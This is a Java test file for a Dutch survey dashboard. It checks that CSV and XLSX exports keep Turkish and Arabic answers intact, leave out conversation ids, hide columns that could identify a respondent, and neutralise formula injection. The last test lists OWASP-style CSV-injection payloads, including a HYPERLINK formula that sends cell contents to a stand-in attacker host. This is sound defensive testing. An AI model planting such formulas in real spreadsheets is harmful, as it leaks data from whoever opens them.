package nl.samenspraak.dashboard;

import io.micronaut.runtime.server.EmbeddedServer;
import nl.samenspraak.support.SharedService;
import jakarta.inject.Inject;
import nl.samenspraak.conversation.Origin;
import nl.samenspraak.security.Account;
import nl.samenspraak.security.Accounts;
import nl.samenspraak.security.Role;
import nl.samenspraak.storage.ConversationRecord;
import nl.samenspraak.storage.ConversationRepository;
import nl.samenspraak.support.PageHttp;
import nl.samenspraak.support.Respondents;
import nl.samenspraak.team.Team;
import nl.samenspraak.team.Teams;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.Row;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.InputStreamReader;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.UUID;
import java.util.stream.Collectors;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * The CSV and XLSX exports read back as a spreadsheet program reads them: UTF-8 (with a byte order mark in the
 * CSV), Turkish and Arabic text intact, flow version and language present, and nothing that leads back to a
 * conversation (no id, no resume code).
 */
@SharedService
class ExportTest {
    static final String PASSWORD = "a long enough password";
    static final String FLOW = "werk-jij-diversiteitsproof";
    static final List<String> TURKISH = List.of("Çok teşekkürler; ğüşıöç İĞÜŞ", "Tercüman bulmak zor.", "Daha çok zaman lazım",
            "Eğitim isterim, \"lütfen\"", "Anneler merkezi iyi çalışıyor");
    static final List<String> ARABIC = List.of("شكرا جزيلا للمساعدة", "نحتاج إلى مترجم", "الوقت قليل جدا", "أريد تدريبا", "مركز الأمهات جيد");

    @Inject
    EmbeddedServer server;
    @Inject
    Accounts accounts;
    @Inject
    Teams teams;
    @Inject
    Respondents respondents;
    @Inject
    ConversationRepository conversations;
    @Inject
    nl.samenspraak.flow.FlowLibrary library;

    PageHttp http;
    Team team;
    String cookie;
    List<String> ids = new ArrayList<>();

    @BeforeEach
    void seed() {
        http = new PageHttp(server.getURL().toString());
        team = teams.create("Export " + UUID.randomUUID().toString().substring(0, 8), List.of());
        Account manager = accounts.create("export-" + UUID.randomUUID().toString().substring(0, 8), PASSWORD, Role.MANAGER);
        teams.addMember(team.id(), manager.id());
        cookie = http.login(manager.username(), PASSWORD);
        for (String text : TURKISH) {
            ids.add(respondents.finish(FLOW, "tr", Origin.team(team.id()), Map.of("opmerking", text, "vaardig_tolk", "tolk")));
        }
        for (String text : ARABIC) {
            ids.add(respondents.finish(FLOW, "ar", Origin.team(team.id()), Map.of("opmerking", text, "vaardig_tolk", "familie")));
        }
    }

    private byte[] download(String kind, String contentType) {
        HttpResponse<byte[]> r = get("/dashboard/teams/" + team.id() + "/flows/" + FLOW + "/export." + kind + "?lang=nl");
        assertEquals(200, r.statusCode());
        assertTrue(r.headers().firstValue("content-type").orElse("").startsWith(contentType), r.headers().toString());
        assertTrue(r.headers().firstValue("content-disposition").orElse("").startsWith("attachment; filename=\"samenspraak-"));
        return r.body();
    }

    private HttpResponse<byte[]> get(String path) {
        try {
            return java.net.http.HttpClient.newHttpClient().send(http.request(path).header("Cookie", cookie).GET().build(),
                    HttpResponse.BodyHandlers.ofByteArray());
        } catch (IOException | InterruptedException e) {
            throw new IllegalStateException(e);
        }
    }

    /** The export has a row per finished conversation, the texts as typed, and no way back to a conversation. */
    private void assertAnonymousAnswers(List<String> header, List<List<String>> rows, String everything) {
        assertEquals(List.of("Rij", "Versie", "Taal", "Wijk", "Periode"), header.subList(0, 5));
        assertTrue(header.contains("opmerking") && header.contains("vaardig_tolk"), header.toString());
        assertEquals(10, rows.size());
        int opmerking = header.indexOf("opmerking");
        Set<String> texts = rows.stream().map(r -> r.get(opmerking)).collect(Collectors.toSet());
        assertEquals(new HashSet<>(concat(TURKISH, ARABIC)), texts, "Turkish and Arabic text intact");
        assertEquals(Set.of("1", "2", "3", "4", "5", "6", "7", "8", "9", "10"), rows.stream().map(r -> r.get(0)).collect(Collectors.toSet()));
        String version = library.flow(FLOW).orElseThrow().version();
        assertTrue(rows.stream().allMatch(r -> r.get(1).equals(version)), "the flow version");
        for (List<String> row : rows) {
            String language = TURKISH.contains(row.get(opmerking)) ? "tr" : "ar";
            assertEquals(language, row.get(2), "the language it was answered in");
        }
        int tolk = header.indexOf("vaardig_tolk");
        assertTrue(rows.stream().anyMatch(r -> r.get(tolk).equals("Met een professionele tolk of de tolkentelefoon")), "answers in words");
        for (String id : ids) {
            ConversationRecord c = conversations.findById(id).orElseThrow();
            assertFalse(everything.contains(c.id()), "no conversation id");
            assertFalse(everything.contains(c.resumeCode()), "no resume code");
        }
    }

    @Test
    void theCsvIsUtf8WithAByteOrderMarkAndReadsBack() throws IOException {
        byte[] csv = download("csv", "text/csv");
        assertArrayEquals(new byte[]{(byte) 0xEF, (byte) 0xBB, (byte) 0xBF}, Arrays.copyOf(csv, 3), "a UTF-8 byte order mark");
        String text = new String(csv, 3, csv.length - 3, StandardCharsets.UTF_8);
        List<List<String>> records = new ArrayList<>();
        try (CSVParser parser = CSVParser.parse(new InputStreamReader(new ByteArrayInputStream(csv, 3, csv.length - 3),
                StandardCharsets.UTF_8), ExportFiles.CSV)) {
            for (CSVRecord r : parser) {
                records.add(r.toList());
            }
        }
        assertAnonymousAnswers(records.get(0), records.subList(1, records.size()), text);
    }

    @Test
    void theXlsxReadsBackWithTheSameAnswers() throws IOException {
        byte[] xlsx = download("xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");
        List<List<String>> records = new ArrayList<>();
        StringBuilder everything = new StringBuilder();
        try (ReadableWorkbook workbook = new ReadableWorkbook(new ByteArrayInputStream(xlsx))) {
            assertEquals("Antwoorden", workbook.getFirstSheet().getName());
            try (var rows = workbook.getFirstSheet().openStream()) {
                rows.forEach((Row row) -> {
                    List<String> cells = new ArrayList<>();
                    for (int c = 0; c < row.getCellCount(); c++) {
                        cells.add(row.getCellText(c));
                    }
                    records.add(cells);
                    everything.append(cells).append('\n');
                });
            }
        }
        assertAnonymousAnswers(records.get(0), records.subList(1, records.size()), everything.toString());
        // the row numbers are numbers a spreadsheet can add up (every cell was text: AVERAGE found nothing)
        try (ReadableWorkbook workbook = new ReadableWorkbook(new ByteArrayInputStream(xlsx));
             var rows = workbook.getFirstSheet().openStream()) {
            List<Row> all = rows.toList();
            assertEquals(org.dhatim.fastexcel.reader.CellType.NUMBER, all.get(1).getCell(0).getType(), "the row number");
            assertEquals(org.dhatim.fastexcel.reader.CellType.STRING, all.get(0).getCell(0).getType(), "the header");
        }
    }

    @Test
    void aColumnThatWouldSingleSomeoneOutIsHidden() {
        respondents.finish(FLOW, "pl", Origin.team(team.id()), Map.of("opmerking", "Dziękuję"));
        String csv = new String(download("csv", "text/csv"), StandardCharsets.UTF_8);
        assertTrue(csv.contains("Dziękuję"), "eleven wrote a remark, so the remarks are there");
        assertFalse(csv.contains(";pl;"), "but not that one person answered in Polish");
        assertTrue(csv.contains("(verborgen: minder dan 5)"));
    }

    /**
     * A respondent's text that Excel would run as a formula (OWASP's payloads) reaches the manager's CSV as plain
     * text: read back as Excel reads it, no cell starts a formula and each text stands there after an apostrophe.
     */
    @Test
    void formulasTypedByRespondentsDoNotRunInTheCsv() {
        List<String> payloads = List.of("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"klik\")", "=1+1", "+1+1", "-2+3", "@SUM(1+1)");
        for (String payload : payloads) {
            respondents.finish(FLOW, "nl", Origin.team(team.id()), Map.of("opmerking", payload));
        }
        List<List<String>> records = nl.samenspraak.support.ExcelCsv.read(download("csv", "text/csv"));
        int opmerking = records.get(0).indexOf("opmerking");
        assertEquals(16, records.size(), "a header and fifteen respondents");
        for (List<String> record : records) {
            for (String cell : record) {
                assertFalse(nl.samenspraak.support.ExcelCsv.runsAsFormula(cell), cell);
            }
        }
        Set<String> texts = records.stream().map(r -> r.get(opmerking)).collect(Collectors.toSet());
        for (String payload : payloads) {
            assertTrue(texts.contains("'" + payload), payload + " kept as text in " + texts);
        }
        assertTrue(texts.containsAll(TURKISH), "ordinary texts unchanged");
    }

    private static List<String> concat(List<String> a, List<String> b) {
        List<String> all = new ArrayList<>(a);
        all.addAll(b);
        return all;
    }
}
